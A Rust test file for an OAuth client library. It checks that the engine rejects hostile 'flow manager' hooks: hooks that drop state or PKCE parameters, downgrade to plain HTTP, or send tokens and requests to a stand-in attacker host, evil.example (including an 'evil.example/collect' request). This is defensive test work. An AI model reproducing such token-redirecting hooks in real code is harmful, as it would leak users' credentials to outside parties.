//! What hooks can do, and what the engine refuses of them.

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "tests")]

mod common;

use std::sync::{Arc, Mutex};

use authflow_core::rfc::{self, AuthorizationParameters};
use authflow_core::{
    AuthorizationResponse, Binding, Call, Callback, ClientCredentials, Endpoints, ErrorKind, Flow,
    FlowManager, Grant, HttpClient, HttpRequest, HttpResponse, Limits, MemoryStateStore, Operation, Provider,
    Result, Revocation, Scopes, Secret, StateStore, TokenSet, async_trait,
};
use common::{Script, callback, credentials, provider, query_value, user};

/// What a manager under test does differently.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Evil {
    Nothing,
    AuthorizationOrigin,
    DropsState,
    DropsChallenge,
    DropsChallengeMethod,
    RenamesChallengeMethod,
    SaysPlain,
    DoublesScope,
    TokenOrigin,
    TokenAtApi,
    TokenPlainHttp,
    DropsVerifier,
    DropsRedirectUri,
    DoublesParameter,
    TwoAuthentications,
    PreparesElsewhere,
    PreparesPlainHttp,
    LooksUpElsewhere,
    LooksUpTooMuch,
    RevokesElsewhere,
    MovesApiRequest,
    FailsAfterExchange,
}

#[derive(Debug)]
struct Manager {
    provider: Provider,
    credentials: Arc<ClientCredentials>,
    states: MemoryStateStore,
    evil: Evil,
    seen: Mutex<Vec<&'static str>>,
}

impl Manager {
    fn saw(&self, hook: &'static str) {
        self.seen.lock().unwrap().push(hook);
    }
}

fn elsewhere() -> HttpRequest {
    HttpRequest::get("https://evil.example/collect".parse().unwrap())
}

#[async_trait]
impl FlowManager for Manager {
    fn provider(&self) -> &Provider {
        &self.provider
    }

    fn credentials(&self) -> Arc<ClientCredentials> {
        Arc::clone(&self.credentials)
    }

    fn state_store(&self) -> &dyn StateStore {
        &self.states
    }

    async fn resolve(&self, http: &dyn HttpClient) -> Result<Arc<Endpoints>> {
        self.saw("resolve");
        rfc::resolve(&self.provider, http).await
    }

    fn authorization_parameters<'a>(&self, cx: &'a Call<'_>) -> Result<AuthorizationParameters<'a>> {
        self.saw("authorization_parameters");
        let mut made = rfc::authorization_parameters(cx)?;
        match self.evil {
            Evil::AuthorizationOrigin => made.endpoint.to_mut().set_host(Some("evil.example")).unwrap(),
            Evil::DropsState => made.remove("state"),
            Evil::DropsChallenge => made.remove("code_challenge"),
            Evil::DropsChallengeMethod => made.remove("code_challenge_method"),
            Evil::RenamesChallengeMethod => {
                made.remove("code_challenge_method");
                made.set("method", "S256");
            }
            Evil::SaysPlain => made.set("code_challenge_method", "plain"),
            Evil::DoublesScope => made
                .parameters
                .extend(rfc::authorization_parameters(cx)?.parameters.into_iter().skip(3).take(1)),
            _ => made.set("hooked", "yes"),
        }
        Ok(made)
    }

    fn callback(&self, cx: &Call<'_>, response: &AuthorizationResponse<'_>) -> Result<Callback> {
        self.saw("callback");
        rfc::callback(cx, response)
    }

    fn token_request(&self, cx: &Call<'_>) -> Result<HttpRequest> {
        self.saw("token_request");
        let mut request = rfc::token_request(cx)?;
        let without = |request: &HttpRequest, dropped: &str| -> Vec<u8> {
            let kept = url::form_urlencoded::parse(&request.body).filter(|(name, _)| name != dropped);
            url::form_urlencoded::Serializer::new(String::new()).extend_pairs(kept).finish().into_bytes()
        };
        match self.evil {
            Evil::TokenOrigin => request.url = "https://evil.example/token".parse().unwrap(),
            Evil::TokenAtApi => request.url = "https://api.example/token".parse().unwrap(),
            Evil::TokenPlainHttp => request.url = "http://as.example/token".parse().unwrap(),
            Evil::DropsVerifier => request.body = without(&request, "code_verifier"),
            Evil::DropsRedirectUri => request.body = without(&request, "redirect_uri"),
            Evil::DoublesParameter => request.body.extend_from_slice(b"&grant_type=x"),
            Evil::TwoAuthentications => {
                request.body.extend_from_slice(format!("&client_secret={}", common::SECRET).as_bytes());
            }
            _ => {}
        }
        Ok(request)
    }

    async fn prepare_token_request(
        &self,
        _: &Call<'_>,
        http: &dyn HttpClient,
        request: &mut HttpRequest,
    ) -> Result<()> {
        self.saw("prepare_token_request");
        match self.evil {
            Evil::PreparesElsewhere => {
                http.send(elsewhere(), &Limits::default()).await?;
            }
            Evil::PreparesPlainHttp => {
                let plain = HttpRequest::get("http://as.example/".parse().unwrap());
                http.send(plain, &Limits::default()).await?;
            }
            _ => {}
        }
        request.headers.insert("x-signed", "yes".parse().unwrap());
        Ok(())
    }

    fn token_response(&self, cx: &Call<'_>, response: &HttpResponse) -> Result<TokenSet> {
        self.saw("token_response");
        rfc::token_response(cx, response)
    }

    async fn after_exchange(
        &self,
        _: &Call<'_>,
        http: &dyn HttpClient,
        tokens: &TokenSet,
    ) -> Result<Option<TokenSet>> {
        self.saw("after_exchange");
        let mut tokens = tokens.clone();
        tokens.account = Some("half-done".to_owned());
        match self.evil {
            Evil::LooksUpElsewhere => {
                http.send(elsewhere(), &Limits::default()).await?;
            }
            Evil::LooksUpTooMuch => {
                let me = HttpRequest::get("https://api.example/me".parse().unwrap());
                http.send(me, &Limits::default().with_max_body(10)).await?;
            }
            Evil::FailsAfterExchange => return Err(authflow_core::Error::invalid_response("no account")),
            _ => {}
        }
        Ok(Some(tokens))
    }

    fn authenticate(&self, cx: &Call<'_>, tokens: &TokenSet, request: &mut HttpRequest) -> Result<()> {
        self.saw("authenticate");
        rfc::authenticate(cx, tokens, request)?;
        if self.evil == Evil::MovesApiRequest {
            request.url.set_host(Some("evil.example")).unwrap();
        }
        Ok(())
    }

    fn refuses_token(&self, _: &HttpResponse) -> bool {
        self.saw("refuses_token");
        false
    }

    async fn revoke(&self, cx: &Call<'_>, http: &dyn HttpClient, tokens: &TokenSet) -> Result<Revocation> {
        self.saw("revoke");
        if self.evil == Evil::RevokesElsewhere {
            http.send(elsewhere(), &Limits::default()).await?;
        }
        rfc::revoke(cx, http, tokens).await
    }
}

fn manager(evil: Evil) -> Manager {
    Manager {
        provider: provider("p").build().unwrap(),
        credentials: Arc::new(credentials()),
        states: MemoryStateStore::default(),
        evil,
        seen: Mutex::default(),
    }
}

async fn run(flow: &Flow) -> Result<TokenSet> {
    let authorization = flow.begin(&user()).await?;
    let query = callback(authorization.url());
    let completed = flow.finish(&AuthorizationResponse::from_query(&query)?, &user()).await?;
    match completed.after_exchange {
        Some(error) => {
            assert!(completed.tokens.access_token.ct_eq("planted-access-1"), "the tokens are kept");
            assert!(completed.tokens.account.is_none(), "nothing half-done is kept");
            Err(error)
        }
        None => Ok(completed.tokens),
    }
}

#[tokio::test]
async fn no_hook_can_switch_a_check_off() {
    for (evil, kind, sent) in [
        (Evil::AuthorizationOrigin, ErrorKind::ForeignOrigin, 0),
        (Evil::DropsState, ErrorKind::Configuration, 0),
        (Evil::DropsChallenge, ErrorKind::Configuration, 0),
        (Evil::DropsChallengeMethod, ErrorKind::Configuration, 0),
        (Evil::RenamesChallengeMethod, ErrorKind::Configuration, 0),
        (Evil::SaysPlain, ErrorKind::Configuration, 0),
        (Evil::DoublesScope, ErrorKind::Usage, 0),
        (Evil::TokenOrigin, ErrorKind::ForeignOrigin, 0),
        (Evil::TokenAtApi, ErrorKind::ForeignOrigin, 0),
        (Evil::TokenPlainHttp, ErrorKind::ForeignOrigin, 0),
        (Evil::DropsVerifier, ErrorKind::Configuration, 0),
        (Evil::DropsRedirectUri, ErrorKind::Configuration, 0),
        (Evil::DoublesParameter, ErrorKind::Configuration, 0),
        (Evil::TwoAuthentications, ErrorKind::Configuration, 0),
        (Evil::PreparesElsewhere, ErrorKind::ForeignOrigin, 0),
        (Evil::PreparesPlainHttp, ErrorKind::Configuration, 0),
        (Evil::LooksUpElsewhere, ErrorKind::ForeignOrigin, 1),
        (Evil::LooksUpTooMuch, ErrorKind::InvalidResponse, 2),
        (Evil::FailsAfterExchange, ErrorKind::InvalidResponse, 1),
    ] {
        let http = Script::new();
        let flow = Flow::builder(manager(evil)).http_client(Arc::clone(&http)).build().unwrap();
        http.json(r#"{"access_token":"planted-access-1"}"#);
        http.json(r#"{"account":"11 bytes and more"}"#);
        let error = run(&flow).await.expect_err(&format!("{evil:?}"));
        assert_eq!(error.kind(), kind, "{evil:?}: {error}");
        assert_eq!(http.count(), sent, "{evil:?}");
    }
}

#[tokio::test]
async fn the_single_step_of_a_token_request_is_checked_as_the_whole_flow_is() {
    let grant = Grant::AuthorizationCode {
        code: Secret::new("planted-code-1"),
        code_verifier: Some(Secret::new("planted-verifier-1")),
        redirect_uri: Some(common::REDIRECT_URI.into()),
    };
    for (evil, kind) in [
        (Evil::Nothing, None),
        (Evil::DropsVerifier, Some(ErrorKind::Configuration)),
        (Evil::TokenOrigin, Some(ErrorKind::ForeignOrigin)),
        (Evil::PreparesElsewhere, Some(ErrorKind::ForeignOrigin)),
    ] {
        let flow = Flow::builder(manager(evil)).http_client(Script::new()).build().unwrap();
        match flow.token_request(&grant, &Scopes::none()).await {
            Ok(request) => {
                assert_eq!(kind, None, "{evil:?}");
                assert_eq!(request.headers["x-signed"], "yes");
            }
            Err(error) => assert_eq!(Some(error.kind()), kind, "{evil:?}"),
        }
    }
}

#[test]
fn credentials_of_a_manager_in_code_are_checked_when_the_flow_is_built() {
    let mut careless = manager(Evil::Nothing);
    careless.credentials = Arc::new(ClientCredentials::public("c").redirect_uri("http://app.example/"));
    let error = Flow::builder(careless).http_client(Script::new()).build().unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Configuration);
}

#[tokio::test]
async fn tokens_go_to_listed_origins_only() {
    let http = Script::new();
    let asked = Arc::new(manager(Evil::Nothing));
    let flow = Flow::builder(Arc::clone(&asked)).http_client(Arc::clone(&http)).build().unwrap();
    let tokens = TokenSet::new("planted-access-1", std::time::SystemTime::UNIX_EPOCH);
    for foreign in [
        "https://evil.example/",
        "http://api.example/",
        "https://api.example.evil.example/",
        "https://api.example:8443/",
        "https://u@api.example/",
        "https://u:p@api.example/",
    ] {
        let mut request = HttpRequest::get(foreign.parse().unwrap());
        let error = flow.authenticate(&tokens, &mut request).await.unwrap_err();
        assert_eq!(error.kind(), ErrorKind::ForeignOrigin, "{foreign}");
        assert!(request.headers.is_empty());
    }
    assert!(
        !asked.seen.lock().unwrap().contains(&"authenticate"),
        "no hook sees a token that goes elsewhere"
    );
    let mut request = HttpRequest::get("https://api.example/me?x=1".parse().unwrap());
    flow.authenticate(&tokens, &mut request).await.unwrap();
    assert_eq!(request.headers["authorization"], "Bearer planted-access-1");
    assert!(request.headers["authorization"].is_sensitive());

    for evil in [Evil::MovesApiRequest, Evil::RevokesElsewhere] {
        let flow = Flow::builder(manager(evil)).http_client(Arc::clone(&http)).build().unwrap();
        let mut request = HttpRequest::get("https://api.example/me".parse().unwrap());
        let error = match evil {
            Evil::MovesApiRequest => flow.authenticate(&tokens, &mut request).await.unwrap_err(),
            _ => flow.revoke(&tokens).await.unwrap_err(),
        };
        assert_eq!(error.kind(), ErrorKind::ForeignOrigin);
        assert!(request.headers.is_empty(), "nothing is attached to a request that is refused");
    }
    assert_eq!(http.count(), 0);
}

#[tokio::test]
async fn pointers_forward_every_hook() {
    let plain = Arc::new(manager(Evil::Nothing));
    let dynamic: Arc<dyn FlowManager> = plain.clone();
    let boxed: Box<dyn FlowManager> = Box::new(Arc::clone(&plain));
    let flows = [
        Flow::builder(Arc::clone(&plain)),
        Flow::builder(dynamic),
        Flow::builder(boxed),
        Flow::builder(Box::new(Arc::new(Arc::clone(&plain)))),
    ];
    for builder in flows {
        plain.seen.lock().unwrap().clear();
        let http = Script::new();
        let flow = builder.http_client(Arc::clone(&http)).build().unwrap();
        http.json(r#"{"access_token":"planted-access-1"}"#);
        let authorization = flow.begin(&user()).await.unwrap();
        assert_eq!(query_value(authorization.url(), "hooked").as_deref(), Some("yes"));
        let query = callback(authorization.url());
        let completed =
            flow.finish(&AuthorizationResponse::from_query(&query).unwrap(), &user()).await.unwrap();
        assert_eq!(http.requests()[0].headers["x-signed"], "yes");
        http.answer(200, "text/plain", "");
        flow.revoke(&completed.tokens).await.unwrap();
        flow.authenticate(&completed.tokens, &mut HttpRequest::get("https://api.example/".parse().unwrap()))
            .await
            .unwrap();
        assert!(!flow.manager().refuses_token(&HttpResponse::new(http::StatusCode::UNAUTHORIZED, "")));
        let mut seen = plain.seen.lock().unwrap().clone();
        seen.sort_unstable();
        seen.dedup();
        assert_eq!(
            seen,
            [
                "after_exchange",
                "authenticate",
                "authorization_parameters",
                "callback",
                "prepare_token_request",
                "refuses_token",
                "resolve",
                "revoke",
                "token_request",
                "token_response"
            ]
        );
    }
}

#[test]
fn h1_no_debug_shows_a_secret() {
    let planted = "planted-secret-value-0123456789";
    let credentials =
        ClientCredentials::confidential("client-1", planted).redirect_uri("https://app.example/cb");
    let mut tokens = TokenSet::new(planted, std::time::SystemTime::UNIX_EPOCH);
    tokens.refresh_token = Some(Secret::new(planted));
    tokens.id_token = Some(Secret::new(planted));
    tokens.extra.insert("team_token".to_owned(), planted.into());
    tokens.callback.insert("location".to_owned(), planted.to_owned());
    let mut request = HttpRequest::get(format!("https://as.example/{planted}?t={planted}").parse().unwrap());
    request.body = planted.as_bytes().to_vec();
    request.headers.insert("authorization", planted.parse().unwrap());
    let response = HttpResponse::new(http::StatusCode::OK, planted)
        .with_header(http::header::SET_COOKIE, planted.parse().unwrap());
    let query = format!("code={planted}&state={planted}");
    let answer = AuthorizationResponse::from_query(&query).unwrap();
    let binding = authflow_core::Binding::browser(Secret::new(planted));
    let grant = authflow_core::Grant::RefreshToken { refresh_token: Secret::new(planted) };
    let provider =
        Provider::builder("p").token_endpoint("https://as.example/t").config("key", planted).build().unwrap();
    let shown = format!(
        "{credentials:?} {tokens:?} {request:?} {response:?} {answer:?} {binding:?} {grant:?} {provider:?}"
    );
    assert!(!shown.contains(planted), "{shown}");
}

/// Whoever drives the steps alone learns from an error as much as who calls `begin` and `finish`.
#[tokio::test]
async fn each_single_step_names_provider_and_operation() {
    let script = Script::default();
    let flow = Flow::builder(manager(Evil::Nothing)).http_client(script).build().unwrap();
    let short = Binding::browser(Secret::new("short"));
    let extensions = http::Extensions::new();
    let nothing = AuthorizationResponse::from_query("").unwrap();
    let prepared = flow.prepare().await.unwrap();
    let scopes = prepared.pending.scopes.clone();
    let grant = Grant::ClientCredentials;
    let errors = [
        (flow.check_state(&extensions, &nothing, &user()).await.unwrap_err(), Operation::Finish),
        (flow.callback(&prepared.pending, &nothing).await.unwrap_err(), Operation::Finish),
        (
            flow.token_response(&grant, &scopes, &HttpResponse::new(http::StatusCode::OK, ""))
                .await
                .unwrap_err(),
            Operation::Exchange,
        ),
        (
            flow.store_state(&extensions, &prepared.state, &short, prepared.pending).await.unwrap_err(),
            Operation::Begin,
        ),
    ];
    for (error, operation) in errors {
        assert_eq!(error.operation(), Some(operation), "{error}");
        assert_eq!(error.provider(), Some(flow.provider().id()), "{error}");
    }
}
